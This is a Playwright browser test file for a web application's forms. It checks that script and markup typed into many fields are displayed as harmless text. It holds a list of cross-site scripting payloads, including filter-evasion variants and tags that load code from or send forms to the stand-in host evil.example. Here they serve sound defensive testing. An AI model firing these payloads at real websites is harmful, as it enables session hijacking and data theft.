"""I1, small: markup and scripts typed as answers, names, file names and reasons are shown as the text they are, on
every page that shows them. No script runs, no dialog opens, and nothing meets the content security policy."""

import re

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import PASSWORD
from tests.browser.people import ANNA, COLLECTION, KOFI, of

pytestmark = pytest.mark.browser
ADA, RORY, WINSTON = "ada.finch@larkfield.example", "rory.maddox@larkfield.example", "winston.clarke@larkfield.example"
RUN = "window.ran=1"
PAYLOADS = [
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<ScRiPt src=//evil.example/x.js>{RUN}</sCrIpT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}"',
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext><style><img src=x onerror={RUN}></style></mtext></math>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>open</details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"--></style><script>{RUN}</script>",
    f'"><script>{RUN}</script>',
    f"'><img src=x onerror={RUN}>",
    f'" autofocus onfocus="{RUN}',
    f"' onmouseover='{RUN}",
    f"`-{RUN}-`",
    f'<a href="javascript:{RUN}">see 8.1</a>',
    f"javascript:{RUN}//see 8.1 above",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    f"<embed src='javascript:{RUN}'>",
    "<meta http-equiv=refresh content='0;url=/accounts/logout/'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; * { display: none }</style>",
    "<form action=//evil.example><button>Save and continue</button></form>",
    "{{ request.user }} {% now 'Y' %} ${7*7} <%= 7*7 %>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
]
MANY = "\n\n".join(PAYLOADS)
FILE = f"<img src=x onerror={RUN}>.pdf"
SHORT = f"<img src=x onerror={RUN}>"


@pytest.fixture
def alarms():
    """Dialogs, scripts that ran, what the content security policy stopped, and what was asked of elsewhere."""
    return []


@pytest.fixture
def watched(own_site, visit, alarms):
    def watched(email=None):
        page = visit(own_site, email)
        page.on("dialog", lambda dialog: (alarms.append("a dialog"), dialog.dismiss()))
        page.on("pageerror", lambda error: alarms.append(f"an error: {error}"))
        page.on("console", lambda said: _is_alarm(said.text) and alarms.append(said.text))
        page.on("load", lambda loaded: loaded.evaluate("window.ran") and alarms.append(f"{loaded.url}: a script ran"))
        page.on("request", lambda asked: _is_ours(asked.url) or alarms.append(asked.url))
        return page

    return watched


def _is_alarm(text):
    return not text.startswith("Failed to load resource: the server responded with a status of")


def _is_ours(url):
    return url.startswith(("http://localhost:", "data:"))


def test_texts_are_shown_as_texts(watched, alarms):
    lead = watched(ADA)
    given_payloads_in_every_text(lead)
    given_two_texts_for_one_answer(lead, watched(RORY))
    then_the_pages_of_the_draft_show_them(lead)
    when_it_is_finalised(lead)
    chair = watched(WINSTON)
    then_who_signs_reads_them(chair)
    when_it_is_sent_back_and_finalised_again(chair, lead)
    then_who_signs_reads_them(chair)
    when_it_is_signed_and_sent(chair, lead)
    when_more_is_typed_after_sending(lead)
    then_the_programme_reads_them(watched(KOFI))
    then_the_programme_reads_them(watched(ANNA))

    assert alarms == []


def test_alarms_would_ring(watched, alarms):
    page = watched()
    page.goto("/help/")

    page.evaluate("markup => document.body.insertAdjacentHTML('beforeend', markup)", PAYLOADS[4])
    page.evaluate("alert(1)")
    page.evaluate("document.body.append(Object.assign(new Image(), {src: 'http://127.0.0.1:9/x.png'}))")
    page.wait_for_timeout(300)

    told = " ".join(alarms)
    assert "a dialog" in told
    assert "Content Security Policy" in told


def given_payloads_in_every_text(page):
    page.goto(of("Larkfield", "questions/1.1/"))
    page.get_by_label("Assessment of current position").fill(MANY)
    page.get_by_label("About the example").fill(SHORT)
    page.get_by_label("Support required").fill(MANY)
    pdf = {"name": FILE, "mimeType": "application/pdf", "buffer": b"%PDF-1.7\n%%EOF\n"}
    page.get_by_label("Attach more files").set_input_files([pdf, {**pdf, "name": "<b>.exe"}])
    page.get_by_role("button", name="Save and continue").click()
    expect(page.locator(".govuk-error-message")).to_contain_text("“<b>.exe” is not a file type we accept")
    expect(page.get_by_label("Assessment of current position")).to_have_value(MANY)

    page.goto(of("Larkfield", "questions/1.2/"))
    page.get_by_label("Assessment of current position").fill("")
    page.get_by_text("We cannot answer this question").click()
    page.get_by_label("Why can you not answer it?").fill(MANY[:2000])
    page.get_by_role("button", name="Save and continue").click()
    page.wait_for_url(lambda address: "questions/1.2/" not in address)

    page.goto(of("Larkfield", "about/"))
    page.get_by_label("Context").fill(MANY)
    with page.expect_navigation():
        page.get_by_role("button", name="Save").click()
    page.goto(of("Larkfield", "contact/"))
    for name in ("completed_by_name", "completed_by_organisation", "query_name", "query_job_title"):
        page.locator(f"#id_{name}").fill(SHORT)
    page.locator("#id_query_phone").fill("<svg/onload=window.ran=1>")
    page.get_by_role("button", name="Save").click()
    expect(page.get_by_role("status").first).to_contain_text("Saved")


def given_two_texts_for_one_answer(lead, contributor):
    for page in (lead, contributor):
        page.goto(of("Larkfield", "questions/6.9/"))
    for page, text in ((lead, MANY), (contributor, PAYLOADS[4] + MANY)):
        page.get_by_label("Assessment of current position").fill(text)
        page.get_by_role("button", name="Save and continue").click()
        page.wait_for_load_state()
    expect(contributor.get_by_role("heading", level=1)).to_contain_text("both changed this answer")
    contributor.get_by_role("radio", name="Keep yours").check()
    contributor.get_by_role("button", name="Save this answer").click()
    expect(contributor.get_by_label("Assessment of current position")).to_have_value(PAYLOADS[4] + MANY)


def then_the_pages_of_the_draft_show_them(page):
    for rest in ("sections/1/", "sections/6/", "questions/1.1/", "questions/1.2/", "questions/1.1/history/",
                 "questions/6.9/history/", "about/", "about/history/", "contact/", "check/?show=has-support_required",
                 "check/?show=no-response", "history/", "documents/", "people/", ""):  # fmt: skip
        page.goto(of("Larkfield", rest))
        expect(page.get_by_role("contentinfo")).to_be_visible()
    assert "onerror" in page.get_by_role("region", name="Query contact").inner_text()


def when_it_is_finalised(page):
    page.goto(of("Larkfield", "check/"))
    page.get_by_role("button", name=re.compile("Finalise edition")).click()
    expect(page.get_by_role("status").first).to_contain_text("has been made")


def then_who_signs_reads_them(page):
    page.goto("/")
    page.get_by_role("link", name="Larkfield").first.click()
    expect(page.get_by_label("Your password", exact=True)).to_be_visible()
    page.get_by_role("button", name="Read the whole return").click()
    assert_all_are_readable(page)


def assert_all_are_readable(page):
    expect(page.get_by_role("contentinfo")).to_be_visible()
    lines = page.get_by_role("main").inner_text()
    assert [payload for payload in PAYLOADS if payload not in lines] == []


def when_it_is_sent_back_and_finalised_again(chair, lead):
    chair.goto(of("Larkfield", "editions/2/send-back/"))
    chair.get_by_label("The return as a whole").fill(MANY[:2000])
    chair.get_by_text("1. Models of partnership").click()
    chair.get_by_label("What has to change in section 1", exact=True).fill(MANY[:2000])
    chair.get_by_role("button", name="Send edition 2 back").click()
    expect(chair.get_by_role("status").first).to_contain_text("You have sent edition 2 back")
    lead.goto(of("Larkfield"))
    expect(lead.get_by_text(PAYLOADS[0]).first).to_be_visible()
    lead.goto(of("Larkfield", "sections/1/"))
    when_it_is_finalised(lead)


def when_it_is_signed_and_sent(chair, lead):
    chair.goto(of("Larkfield", "editions/3/sign/"))
    chair.get_by_label("Your password", exact=True).fill(PASSWORD)
    chair.get_by_role("button", name="Sign edition 3").click()
    expect(chair.get_by_role("heading", level=1)).to_have_text("You have signed edition 3")
    lead.goto(of("Larkfield", "editions/3/send/"))
    for box in lead.get_by_role("main").get_by_role("textbox").all():
        box.fill(SHORT * 5)
    lead.get_by_role("button", name="Send edition 3").click()
    expect(lead.get_by_text("This page is your receipt")).to_be_visible()


def when_more_is_typed_after_sending(page):
    page.goto(of("Larkfield", "board/"))
    page.get_by_label("Board", exact=True).fill(SHORT)
    page.get_by_label("Date of the meeting").fill("2013-09-12")
    page.get_by_role("radio", name="Noted").check()
    page.get_by_label("Minute reference").fill(SHORT)
    page.get_by_label("Resolution").fill(MANY)
    page.get_by_role("button", name="Record the decision").click()
    expect(page.get_by_role("status").first).to_contain_text("Recorded")
    for rest in ("", "history/", "editions/3/", "documents/", "board/"):
        page.goto(of("Larkfield", rest))
        expect(page.get_by_role("contentinfo")).to_be_visible()


def then_the_programme_reads_them(page):
    page.goto(f"{COLLECTION}?words=" + "%3Cscript%3Ewindow.ran%3D1%3C/script%3E")
    expect(page.get_by_text("No areas match your filters")).to_be_visible()
    page.goto(f"{COLLECTION}?words=Larkfield")
    expect(page.get_by_role("table").last).to_contain_text("onerror")
    page.goto(of("Larkfield", "editions/3/"))
    assert_all_are_readable(page)
    page.goto("/verify/?reference=%3Cimg+src%3Dx+onerror%3Dwindow.ran%3D1%3E")
    expect(page.get_by_text("onerror")).to_be_visible()
